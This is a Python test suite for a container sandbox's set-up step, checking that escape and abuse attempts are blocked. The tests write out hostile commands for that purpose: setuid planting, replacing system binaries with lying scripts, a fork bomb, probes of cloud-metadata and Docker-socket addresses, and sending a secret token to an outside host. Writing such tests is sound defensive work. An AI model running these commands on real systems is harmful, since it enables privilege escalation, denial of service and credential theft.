"""What a set-up's packages may try: to stay, to lie, to reach out, to keep a secret, to never end.

Each attempt is made for real by a policy's commands, in the container that set-up runs in.
"""

import contextlib
import hashlib
import os
import signal
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from images.setup import making
from images.setup.egress import relay
from images.setup.layer import SetupLayer, find_or_make, reference
from policies.policy import Policy
from sandbox.engine.docker import Engine
from sandbox.engine.values import (
    LABEL_ATTEMPT,
    LABEL_FOREIGN,
    LABEL_MANAGED,
    LABEL_PROXY,
    LABEL_SETUP,
    ContainerInfo,
)
from sandbox.errors import ContainerGone, EngineError, SandboxError, SetupFailed, VolumeRefused
from sandbox.opening.stored import LeftoverKind
from sandbox.prune import leftovers
from sandbox.sandbox import Sandbox
from waiting import until

pytestmark = pytest.mark.slow

SECRET = "the-operators+own/t0ken-of-a-registry="


class Setups:
    """Runs set-ups of its own, and leaves nothing of them behind."""

    def __init__(self, engine: Engine, image: str, policy: Policy, workspace: Path) -> None:
        self.engine, self.image, self.workspace = engine, image, workspace
        self.told: list[str] = []
        self.on_progress: Callable[[str], None] = self.told.append
        self._policy = policy
        self._refs: list[str] = []

    def policy(self, *commands: str, limits: dict[str, Any] | None = None, **setup: Any) -> Policy:
        # Another one each time, so that none is found.
        rules = replace(self._policy.setup, commands=(f": {uuid.uuid4()}", *commands), **setup)
        bounds = replace(self._policy.limits, **{"time_s": 120.0, **(limits or {})})
        return replace(self._policy, setup=rules, limits=bounds)

    def expect(self, policy: Policy) -> str:
        """The name of what a policy's set-up will make."""
        self._refs.append(reference(self.engine, self.image, policy, self.workspace))
        return self._refs[-1]

    def make(self, policy: Policy, environ: dict[str, str] | None = None) -> SetupLayer:
        self.expect(policy)
        engine = self.engine
        if environ is not None:
            engine = Engine.connect({**os.environ, **environ})
        return find_or_make(
            engine, self.image, policy, self.workspace, on_progress=self.on_progress
        )

    def __call__(self, *commands: str, **setup: Any) -> SetupLayer:
        return self.make(self.policy(*commands, **setup))

    def refused(self, *commands: str, **setup: Any) -> str:
        with pytest.raises(SetupFailed) as caught:
            self(*commands, **setup)
        return str(caught.value)

    def layers(self) -> list[str]:
        """Names of the images that came of them."""
        tags = [tag for row in self.engine.images(LABEL_SETUP) for tag in row.tags]
        keys = tuple(ref.rpartition(":")[2] for ref in self._refs)
        return [tag for tag in tags if tag in self._refs or any(key in tag for key in keys)]

    def left(self) -> list[ContainerInfo]:
        """Their containers that stand."""
        found = [self.engine.containers(f"{LABEL_ATTEMPT}={ref}") for ref in self._refs]
        return [row for rows in found for row in rows]

    def ways_out(self) -> list[str]:
        """The volumes of those containers: each has the socket of a proxy."""
        mounts = [m for row in self.left() for m in self.engine.inspect(row.id)["Mounts"]]
        return [mount["Name"] for mount in mounts if mount["Type"] == "volume"]

    def end(self) -> None:
        ways = self.ways_out()
        for row in self.left():
            self.engine.remove(row.id)
        self.engine.remove_volumes(ways)
        drafts = {tag for tag in self.layers() if ":draft-" in tag}
        # One that looks at a draft may have been made for a killed process without its being told.
        for row in self.engine.containers(LABEL_ATTEMPT) if drafts else ():
            with contextlib.suppress(ContainerGone):  # others go meanwhile
                if self.engine.inspect(row.id)["Config"]["Image"] in drafts:
                    self.engine.remove(row.id)
        for tag in self.layers():
            # One that a sandbox was made of stays with what was made of it.
            with contextlib.suppress(EngineError):
                self.engine.remove_image(tag)


@pytest.fixture
def setups(engine: Engine, image: str, default_policy: Policy, workspace: Path) -> Iterator[Setups]:
    running = Setups(engine, image, default_policy, workspace)
    yield running
    running.end()


def _labels(engine: Engine, image: str) -> Mapping[str, str]:
    found = engine.image(image)
    assert found is not None
    return found.labels


def _run(image: str, command: str) -> str:
    """What a command says in a container of an image."""
    done = subprocess.run(
        ["docker", "run", "--rm", "--network", "none", "--user", "0", "--entrypoint", "/bin/bash",
         image, "-c", command],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False,
    )  # fmt: skip
    return done.stdout.decode()


def test_nothing_that_gives_rights_and_nothing_that_is_no_file_stays(setups: Setups) -> None:
    layer = setups(
        "! touch /etc/ld.so.preload /usr/bin/x /opt/x /root/x 2>/dev/null",
        "! (rm -f /bin/sh || ln -sf /tmp/x /bin/sh) 2>/dev/null",
        "! mknod /opt/venv/device c 1 3 2>/dev/null",
        "! mkdir /opt/moonpool/x 2>/dev/null",
        "mkdir -p /opt/venv/bin && cp /bin/true /opt/venv/bin/t && chmod 6755 /opt/venv/bin/t",
        "mkdir /opt/venv/open && chmod 3777 /opt/venv/open && touch /opt/venv/open/f",
        "chmod 666 /opt/venv/open/f",
        "mkfifo /opt/venv/pipe ~/pipe",
        "python3 -c 'import socket as s; s.socket(s.AF_UNIX).bind(\"/opt/venv/socket\")'",
        "ln -s /etc/shadow /opt/venv/link",
        "setsid nohup sleep 1000 >/dev/null 2>&1 & disown; (sleep 1000 &)",
        "mkdir -p sub && touch 'sub/left\x1b[2J' && ln -s / sub/out",
    )
    odd = "\\( -perm /7000 -o -perm -2 -o -type p -o -type s -o -type b -o -type c \\)"
    found = _run(
        layer.image, f"find / -xdev {odd} ! -type l ! -path /tmp ! -path '/dev*'; ls -A /tmp"
    )
    assert found == ""
    assert _run(layer.image, "cd /opt/venv; stat -c '%a %U %F' bin/t open open/f").splitlines() == [
        "755 agent regular file", "775 agent directory", "664 agent regular empty file",
    ]  # fmt: skip
    assert setups.left() == []


def test_root_may_replace_what_it_likes_and_neither_the_look_nor_the_guest_believe_it(
    setups: Setups, engine: Engine
) -> None:
    liar = (
        '#!/bin/bash\\necho \\x27{"mended":[],"removed":[],"found":[],"changed":[],"unseen":[],'
        '"environment":false,"left":false}\\x27\\n'
    )
    lies = (
        f"printf '{liar}' > /tmp/liar && chmod 755 /tmp/liar",
        "for p in /usr/bin/python3 /usr/bin/python3.1*; do rm -f $p; cp /tmp/liar $p; done",
        "echo /opt/no-such-library.so > /etc/ld.so.preload",
        "rm /bin/ls && cp /bin/true /bin/ls && cp /bin/true /bin/x && chmod 4755 /bin/x",
        "rm /bin/sh && cp /tmp/liar /bin/sh",
        # Nothing is made anew beside or above them.
        "cd /usr/lib/python3.*/json && chmod 6755 tool.py && touch -d 2001-01-01 tool.py . ..",
        "cd /usr/lib/python3.*/email && chmod 3777 mime && touch -d 2001-01-01 mime . ..",
        "! mknod /opt/device c 1 3 2>/dev/null",
        "! mount -t tmpfs none /mnt 2>/dev/null",
    )
    setups.workspace.joinpath("a.lock").write_text("x")
    policy = setups.policy(*lies, 'echo "$TOKEN" > /opt/token', as_root=True, secrets=("TOKEN",))
    with pytest.raises(SetupFailed, match="left a secret in /opt/token"):
        setups.make(policy, {"TOKEN": SECRET})
    layer = setups(*lies, "mkdir d && touch d/built && chmod 600 d/built", as_root=True)
    assert "set-up ran as root (setup.as_root)" in setups.told
    (replaced,) = (row for row in setups.told if row.startswith("set-up replaced programs"))
    assert "/ls" in replaced
    assert "/sh" in replaced
    assert "python3" in replaced
    assert "/x" not in replaced
    assert LABEL_FOREIGN in _labels(engine, layer.image)
    rights = "find / -xdev -perm /7000 ! -path /tmp; find / -xdev -type d -perm -2 ! -path /tmp"
    found = _run(layer.image, f"{rights}; test -e /opt/moonpool; echo $?")
    assert [row for row in found.splitlines() if "ld.so" not in row] == ["1"]
    policy = replace(setups.policy(), setup=policy.setup)
    with Sandbox.open(
        workspace=setups.workspace, policy=policy, image=layer.image, engine=engine
    ) as box:
        said = box.run("cat a.lock; echo more >> d/built; cat d/built; echo new > new").stdout
        assert said == b"xmore\n"
        assert replaced in box.seal.notes
        assert "set-up ran as root (setup.as_root)" in box.seal.notes
        patch = box.export()
    assert [change.path for change in patch.changes] == [b"new"]
    assert b"d/built" in {item.path for item in patch.left_out}


def test_no_link_that_set_up_plants_leads_a_file_of_the_workspace_elsewhere(
    setups: Setups, engine: Engine
) -> None:
    root = setups.workspace
    for folder in ("src/deep", "dir"):
        (root / folder).mkdir(parents=True)
    for name in ("src/a.py", "src/deep/b.py", "a.txt", "dir/c.txt"):
        (root / name).write_text(name)
    policy = setups.policy(
        "mkdir -p /opt/venv/bin /opt/venv/deep ~/x && echo theirs > ~/x/c.txt",
        "ln -s /opt/venv src && ln -s /opt/venv/bin/planted a.txt && ln -s ~/x dir",
    )
    layer = setups.make(policy)
    with Sandbox.open(workspace=root, policy=policy, image=layer.image, engine=engine) as box:
        shown = box.run("cat src/a.py src/deep/b.py a.txt dir/c.txt; find . -type l").stdout
        assert shown == b"src/a.pysrc/deep/b.pya.txtdir/c.txt"
        assert box.run("find /opt/venv ~/x -type f -newer ~/x/c.txt").stdout == b""
        assert box.run("cat ~/x/c.txt").stdout == b"theirs\n"
        assert box.export().changes == ()


def test_its_commands_wait_for_no_disk_and_all_they_wrote_is_kept(setups: Setups) -> None:
    # The kernel itself syncs no pipe.
    said = "import os; os.fsync(os.pipe()[0]); os.sync(); f = open('/opt/venv/f', 'w'); "
    layer = setups(f'mkdir -p /opt/venv; python3 -c "{said}f.write(\'x\' * 9999999); '
                   'os.fdatasync(f.fileno())"')  # fmt: skip
    assert _run(layer.image, "wc -c < /opt/venv/f").strip() == "9999999"


def test_python_starts_from_bytecode_whoever_installed_and_what_can_t_be_compiled_stops_nothing(
    setups: Setups,
) -> None:
    places = ("/opt/venv", "/workspace/.venv", "/home/agent/.local")
    packages = "lib/python3.11/site-packages"
    made = [
        f"mkdir -p {top}/{packages}/new && cd {top}/{packages}/new && echo 'A = 1' > good.py && "
        f"echo 'def' > bad.py"
        for top in places
    ]
    layer = setups(
        "python3 -m venv --without-pip /opt/venv", *made,
        "rm /opt/venv/bin/python3.11 && cp /bin/false /opt/venv/bin/python3.11",
        "python3 -m venv --without-pip /home/agent/own",
        f"echo 'A = 1' > /home/agent/own/{packages}/alone.py",
    )  # fmt: skip
    find = "find /opt /workspace /home/agent -path '*new/__pycache__*' -o -name 'alone.*.pyc'"
    found = _run(layer.image, f"{find} | grep pyc$ | sort").split()
    assert found == [
        "/home/agent/.local/lib/python3.11/site-packages/new/__pycache__/good.cpython-311.pyc",
        "/home/agent/own/lib/python3.11/site-packages/__pycache__/alone.cpython-311.pyc",
        "/workspace/.venv/lib/python3.11/site-packages/new/__pycache__/good.cpython-311.pyc",
    ]


def test_a_place_of_ours_is_not_filled_beforehand(setups: Setups) -> None:
    said = setups.refused("mkdir -p /opt/moonpool/sandbox", as_root=True)
    assert "/opt/moonpool, which is Moonpool's own: not kept" in said
    assert setups.layers() == []


def test_a_secret_does_not_stay_in_any_form_that_clients_write(setups: Setups) -> None:
    policy = setups.policy(
        'mkdir -p /opt/venv/bin; echo "x$TOKEN" > /opt/venv/plain',
        'printf %s "u:$TOKEN" | base64 > ~/auth',
        'ln -s "https://$TOKEN@a.example" /opt/venv/link',
        'touch "/opt/venv/${TOKEN//\\//_}" && mkdir ~/d && printf %s "$TOKEN" | od -An -tx1 '
        "| tr -d ' \\n' > ~/d/hex",
        'python3 -c "import os, urllib.parse as p; '
        "open('url', 'w').write(p.quote(os.environ['TOKEN'], safe=''))\"",
        'echo "## printed: $TOKEN"',
        secrets=("TOKEN",),
    )
    with pytest.raises(SetupFailed) as caught:
        setups.make(policy, {"TOKEN": SECRET})
    said = str(caught.value)
    for place in ("/opt/venv/plain", "/home/agent/auth", "/opt/venv/link", "/home/agent/d/hex",
                  "/workspace/url"):  # fmt: skip
        assert place in said
    assert SECRET not in said + "".join(setups.told)
    assert setups.left() == []  # what holds a secret is not kept for a look
    assert "set-up: printed: [TOKEN]" in setups.told
    assert setups.layers() == []


def test_a_secret_is_there_for_the_commands_and_in_nothing_that_stays(setups: Setups) -> None:
    digest = hashlib.sha256(SECRET.encode()).hexdigest()
    policy = setups.policy(f'printf %s "$TOKEN" | sha256sum | grep -q {digest}', secrets=("TOKEN",))
    layer = setups.make(policy, {"TOKEN": SECRET})
    for command in (["image", "inspect"], ["history", "--no-trunc"]):
        done = subprocess.run(["docker", *command, layer.image], stdout=subprocess.PIPE, check=True)
        assert SECRET.encode() not in done.stdout
    assert _run(layer.image, 'echo "$TOKEN"') == "\n"


def test_where_nothing_can_be_seen_nothing_is_kept(setups: Setups) -> None:
    """A path longer than the kernel takes hides what is below it from whoever looks."""
    deep = "import os\\nfor n in range(60):\\n os.mkdir('d' * 200); os.chdir('d' * 200)"
    said = setups.refused(f'cd ~ && printf "{deep}" | python3')
    assert "nothing was kept" in said
    assert setups.layers() == []


NETWORK = r"""
import socket, subprocess, urllib.request
print("devices", sorted(row.split(":")[0].strip() for row in open("/proc/net/dev").readlines()[2:]))
print("routes", len(open("/proc/net/route").readlines()) - 1)
for host, port in (("172.17.0.1", 2375), ("172.17.0.1", 22), ("169.254.169.254", 80),
                   ("203.0.113.1", 443), ("10.0.0.1", 53)):
    try:
        socket.create_connection((host, port), 3); print("REACHED", host, port)
    except OSError as error: print("no way to", host, error.errno)
for kind in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_DGRAM, 1),
             (socket.AF_PACKET, socket.SOCK_RAW, 0)):
    try:
        opened = socket.socket(*kind); opened.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("203.0.113.1", 0))
        print("REACHED", kind)
    except OSError: print("no raw")
for name in ("a.example", "host.docker.internal", "gateway.docker.internal"):
    try: print("REACHED", socket.getaddrinfo(name, 443))
    except OSError: print("no name")
try: open("/run/moonpool-egress/proxy.sock.new", "w"); print("REACHED the socket's folder")
except OSError: print("read-only")
for target in ("169.254.169.254:80", "172.17.0.1:2375", "b.example:443", "a.example:22"):
    with socket.create_connection(("127.0.0.1", 3128)) as proxy:
        proxy.sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
        print("proxy says", proxy.recv(100).split(b"\r\n")[0].decode())
try: urllib.request.urlopen("http://a.example/")
except OSError as error: print("plain", error)
raise SystemExit(7)
"""


def test_there_is_no_way_out_but_to_the_listed_hosts(setups: Setups) -> None:
    (setups.workspace / "probe.py").write_text(NETWORK)
    said = setups.refused("python3 probe.py", inputs=("probe.py",), network=("a.example",))
    assert "REACHED" not in said
    lines = said.splitlines()
    assert "devices ['lo']" in lines
    assert "routes 0" in lines
    assert lines.count("no raw") == lines.count("no name") == 3
    assert sum(line.startswith("no way to") for line in lines) == 5
    assert "read-only" in lines
    assert lines.count("proxy says HTTP/1.1 403 Forbidden") == 4
    assert "plain HTTP Error 403: Forbidden" in lines
    told = lines[lines.index(next(line for line in lines if "the proxy refused" in line)) :]
    assert {
        "  CONNECT 169.254.169.254:80", "  CONNECT 172.17.0.1:2375", "  CONNECT b.example:443",
        "  CONNECT a.example:22", "  GET http://a.example/",
    } <= set(told)  # fmt: skip


def _telling_a_secret(
    setups: Setups, *commands: str, network: tuple[str, ...] = ("a.example",)
) -> Policy:
    """Of a set-up whose probe puts its secret into a request that is refused."""
    (setups.workspace / "probe.py").write_text(
        "import os, urllib.error, urllib.request\n"
        "try: urllib.request.urlopen('http://b.example/' + os.environ['TOKEN'])\n"
        "except urllib.error.HTTPError as error: assert error.code == 403\n"
    )
    return setups.policy(*commands, inputs=("probe.py",), network=network, secrets=("TOKEN",))


def test_a_secret_in_what_the_proxy_refused_is_not_shown(setups: Setups) -> None:
    policy = _telling_a_secret(setups, "python3 probe.py", "exit 7")
    with pytest.raises(SetupFailed) as caught:
        setups.make(policy, {"TOKEN": SECRET})
    assert "  GET http://b.example/[TOKEN]" in str(caught.value).splitlines()
    assert SECRET not in str(caught.value)


def test_what_the_proxy_refused_is_told_of_a_set_up_that_succeeds_too(setups: Setups) -> None:
    policy = _telling_a_secret(setups, "python3 probe.py")
    setups.make(policy, {"TOKEN": SECRET})
    assert "set-up:   GET http://b.example/[TOKEN]" in setups.told
    assert not any(SECRET in line for line in setups.told)


def test_a_secret_that_the_proxy_refused_reaches_no_set_up_beside_it(
    setups: Setups, engine: Engine
) -> None:
    policy = _telling_a_secret(setups, "python3 probe.py", network=("beside.example",))
    beside = Setups(engine, setups.image, setups.policy(), setups.workspace)
    during = beside.on_progress

    def meanwhile(line: str) -> None:
        during(line)
        if line == "set-up: begun":
            setups.make(policy, {"TOKEN": SECRET})

    beside.on_progress = meanwhile
    try:
        beside("echo '## begun'", network=("beside.example",))
    finally:
        beside.end()
    assert any("[TOKEN]" in line for line in setups.told)
    assert not any("b.example" in line for line in beside.told)


def test_many_refused_requests_do_not_fill_the_screen(setups: Setups) -> None:
    (setups.workspace / "probe.py").write_text(
        "import urllib.error, urllib.request\n"
        "for n in range(60):\n"
        "    try: urllib.request.urlopen(f'http://{n}.example/')\n"
        "    except urllib.error.HTTPError as error: assert error.code == 403\n"
    )
    setups("python3 probe.py", inputs=("probe.py",), network=("many.example",))
    assert sum("GET http://" in line for line in setups.told) == 20
    assert "set-up:   and 40 more" in setups.told


def test_its_way_out_goes_with_it(setups: Setups, engine: Engine) -> None:
    ways: list[str] = []

    def note(line: str) -> None:
        if "looking through" in line:
            ways.extend(setups.ways_out())

    setups.on_progress = note
    setups("true", network=(f"{uuid.uuid4().hex}.example",))
    (way,) = ways
    assert engine.volume(way) is None


def test_each_authority_stands_once_in_what_clients_read_for_every_connection(
    setups: Setups,
) -> None:
    setups(
        "python3 -c \"import os; text = open(os.environ['SSL_CERT_FILE']).read();"
        " rows = text.split('-----BEGIN');"
        ' assert len({row.strip() for row in rows}) == len(rows) > 100, len(rows)"'
    )


def test_its_end_tears_nothing_down_beside_what_still_loads(
    setups: Setups, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The relay loads beside the first command: an interpreter that ends meanwhile crashes."""
    torn_down = "\nimport atexit, os\natexit.register(os._exit, 77)\n"
    monkeypatch.setattr(making, "relay", lambda: relay() + torn_down)
    layer = setups("sleep 0.5", network=("a.example",))
    assert not layer.was_there


def test_without_a_network_there_is_no_proxy_either(setups: Setups) -> None:
    setups("! python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 3128))'"
           " 2>/dev/null", "test ! -e /run/moonpool-egress")  # fmt: skip


@pytest.mark.parametrize(
    ("command", "limits", "why"),
    [
        ("sleep 1000", {"time_s": 4.0}, "it took longer than 4 s (limits.time)"),
        ("trap '' TERM INT HUP; while :; do sleep 1000 & wait; done", {"time_s": 4.0}, "longer"),
        (":(){ :|:& };: ; sleep 1000", {"time_s": 6.0, "pids": 64}, "longer"),
        (
            "for n in $(seq 40); do head -c 10M /dev/zero > ~/f$n; done; sleep 100",
            {"disk_bytes": 100 << 20},
            "more than limits.disk, 100 MiB",
        ),
        ("head -c 150M /dev/zero > ~/f", {"disk_bytes": 100 << 20}, "set-up failed at"),
        ("python3 -c 'b\"x\" * (1 << 30)'", {"memory_bytes": 128 << 20}, "set-up failed at"),
    ],
    ids=["hangs", "hangs on", "forks", "fills its disk", "writes one large file", "memory"],
)
def test_a_set_up_without_end_is_ended(
    setups: Setups, command: str, limits: dict[str, Any], why: str
) -> None:
    with pytest.raises(SetupFailed) as caught:
        setups.make(setups.policy(command, limits=limits))
    assert why in str(caught.value)
    assert "moonpool setup --shell" in str(caught.value)
    (left,) = setups.left()
    assert left.state == "exited"
    assert setups.layers() == []


def test_two_at_once_make_it_once(setups: Setups) -> None:
    policy = setups.policy("sleep 1")
    made: list[SetupLayer] = []
    both = [threading.Thread(target=lambda: made.append(setups.make(policy))) for _ in range(2)]
    for one in both:
        one.start()
    for one in both:
        one.join()
    assert sorted(layer.was_there for layer in made) == [False, True]
    assert made[0].image == made[1].image
    assert sum(row.startswith("set-up: done") for row in setups.told) == 1
    assert "set-up: another moonpool runs the same, waiting" in setups.told


def test_a_proxy_that_dies_in_the_middle_is_said(setups: Setups) -> None:
    def note(line: str) -> None:
        setups.told.append(line)
        if "connected" in line:
            (way,) = setups.ways_out()
            proxies.extend(setups.engine.containers(f"{LABEL_PROXY}.volume={way}"))
            setups.engine.kill(proxies[0].id)

    proxies: list[ContainerInfo] = []
    setups.on_progress = note
    (setups.workspace / "probe.py").write_text(
        "import socket, time\n"
        "proxy = socket.create_connection(('127.0.0.1', 3128))\n"
        "proxy.sendall(b'CONNECT b.example:443 HTTP/1.1\\r\\n\\r\\n'); proxy.recv(100)\n"
        "print('## connected', flush=True)\n"
        "while proxy.recv(10000): pass\n"
        "raise SystemExit('the proxy went away')\n"
    )
    name = f"{uuid.uuid4().hex}.example"
    said = setups.refused("python3 probe.py", inputs=("probe.py",), network=(name,))
    assert "set-up's proxy is gone (it ended with 137): run it again" in said
    assert proxies[0].id not in {row.id for row in setups.engine.containers(LABEL_PROXY)}


def test_a_proxy_that_never_starts_is_said_with_its_words(setups: Setups) -> None:
    broken = f"{uuid.uuid4().hex}.example\nacl broken port 99999"  # no policy file can say so
    said = setups.refused("exit 3", network=(broken,)).splitlines()
    words = said[said.index("set-up's proxy does not start (it ended with 1); its last words:") :]
    assert any("FATAL: Bungled" in row for row in words)
    assert any("acl broken port 99999" in row for row in words)


class NoProxyStarts(Engine):
    def start(self, container: str) -> None:
        if LABEL_PROXY in self.inspect(container)["Config"]["Labels"]:
            raise EngineError("no bridge")
        super().start(container)


def test_commands_that_wait_for_a_proxy_whose_container_never_starts_are_ended(
    setups: Setups,
) -> None:
    setups.engine = NoProxyStarts.connect(os.environ)
    name = f"{uuid.uuid4().hex}.example"
    with pytest.raises(EngineError, match="no bridge"):
        setups("sleep 20; echo '## went on'", network=(name,))
    assert "set-up: went on" not in setups.told
    assert setups.left() == []
    assert setups.layers() == []


def test_a_registry_that_is_down_is_said(setups: Setups) -> None:
    name = f"{uuid.uuid4().hex}.example"
    (setups.workspace / "probe.py").write_text(
        "import socket\n"
        "proxy = socket.create_connection(('127.0.0.1', 3128))\n"
        f"proxy.sendall(b'CONNECT {name}:443 HTTP/1.1\\r\\n\\r\\n')\n"
        "raise SystemExit(proxy.recv(100).decode().partition('\\r')[0])\n"
    )
    said = setups.refused("python3 probe.py", inputs=("probe.py",), network=(name,))
    rows = said.splitlines()
    told = "the proxy may reach these and got no answer (down, or no such name):"
    assert rows[rows.index(told) + 1] == f"  CONNECT {name}:443"
    assert setups.layers() == []


def test_a_secret_that_is_not_set_is_said_before_anything_starts(setups: Setups) -> None:
    policy = setups.policy("true", secrets=("NO_SUCH_TOKEN",))
    with pytest.raises(SandboxError, match="needs the secret NO_SUCH_TOKEN"):
        setups.make(policy)
    assert setups.layers() == []


KILLED = """
import itertools, os, signal, sys
from pathlib import Path
from dataclasses import replace
from images.setup.layer import find_or_make
from policies.loading import load
from sandbox.engine.docker import Engine
image, workspace, command, at, *network = sys.argv[1:]
policy = load("default")
policy = replace(
    policy, setup=replace(policy.setup, commands=(command,), network=tuple(network))
)
engine = Engine.connect(os.environ)
def dies(line):
    if at in line:
        os.kill(os.getpid(), signal.SIGKILL)
calls = itertools.count(1)
def counted(name):
    call = getattr(Engine, name)
    def once(self, *given, **how):
        made = call(self, *given, **how)
        if name.startswith("create"):
            print(made if name == "create" else given[0], flush=True)
        if at in (name, str(next(calls))):
            os.kill(os.getpid(), signal.SIGKILL)
        return made
    setattr(Engine, name, once)
for name in (
    "create_volume", "create", "put_archive", "start", "wait", "commit", "remove_image", "remove",
):
    counted(name)
find_or_make(engine, image, policy, Path(workspace), on_progress=dies)
"""


def _killed(
    setups: Setups, command: str, at: str, *network: str, may_end: bool = False
) -> list[str]:
    """Gives what it created: ids of containers, names of volumes."""
    given = [setups.image, str(setups.workspace), command, at, *network]
    done = subprocess.run(
        [sys.executable, "-c", KILLED, *given], stdout=subprocess.PIPE, text=True, check=False
    )
    assert done.returncode == -signal.SIGKILL or (may_end and done.returncode == 0)
    return done.stdout.split()


def _volume_is_gone(engine: Engine, name: str) -> bool:
    """The engine may still be removing its last container for a process that was killed."""
    with contextlib.suppress(VolumeRefused):
        engine.remove_volume(name)
    return engine.volume(name) is None


def _standing(engine: Engine) -> set[str]:
    containers = {row.id for row in engine.containers(LABEL_MANAGED)}
    return containers | {row.name for row in engine.volumes(LABEL_MANAGED)}


@pytest.mark.parametrize("at", ["set-up: echo", "looking through", "commit"])
def test_what_a_killed_one_leaves_is_never_taken_for_a_layer(setups: Setups, at: str) -> None:
    command = f"echo {uuid.uuid4()}"
    _killed(setups, command, at)
    assert not [tag for tag in setups.layers() if ":draft-" not in tag]
    policy = setups.policy()
    policy = replace(policy, setup=replace(policy.setup, commands=(command,)))
    assert not setups.make(policy).was_there
    drafts = [tag for tag in setups.layers() if ":draft-" in tag]
    assert len(drafts) == (at == "commit")


def test_killed_after_any_call_of_the_engine_nothing_half_stands_and_all_of_it_has_an_end(
    setups: Setups, engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))  # with proxies of its own
    monkeypatch.setattr(engine, "cache", tmp_path / "cache/moonpool")
    command, network = f"echo whole > ~/mark; : {uuid.uuid4()}", f"{uuid.uuid4().hex}.example"
    policy = setups.policy()
    policy = replace(policy, setup=replace(policy.setup, commands=(command,), network=(network,)))
    ref = setups.expect(policy)
    created: list[str] = []
    calls = 0
    try:
        while engine.image(ref) is None:
            calls += 1
            assert calls < 100, "it is never made"
            # The proxy of one that was killed may serve the next, which then has fewer calls.
            created += _killed(setups, command, str(calls), network, may_end=True)
        assert calls > 8
        assert setups.make(policy).was_there
        assert _labels(engine, ref)[LABEL_SETUP] == ref
        assert _run(ref, "cat ~agent/mark") == "whole\n"
    finally:
        before = _standing(engine)
        left = [item for item in leftovers(engine) if item.id in created]
        after = _standing(engine)
        for item in left:
            if item.kind is LeftoverKind.CONTAINER:
                engine.remove(item.id)
        # A process may have been killed before it could tell what the engine made for it.
        proxies = engine.containers(LABEL_PROXY)
        untold = [row for row in proxies if row.labels[f"{LABEL_PROXY}.volume"] in created]
        for row in (*setups.left(), *untold):
            engine.remove(row.id)
        for item in left:
            if item.kind is LeftoverKind.VOLUME:
                until(partial(_volume_is_gone, engine, item.id))
    containers = [item.deadline for item in left if item.kind is LeftoverKind.CONTAINER]
    assert containers
    assert max(containers) < time.time() + 3 * 60 * 60
    # What was about to be removed for a killed one may go at any moment.
    assert after & set(created) <= {item.id for item in left} <= before & set(created)
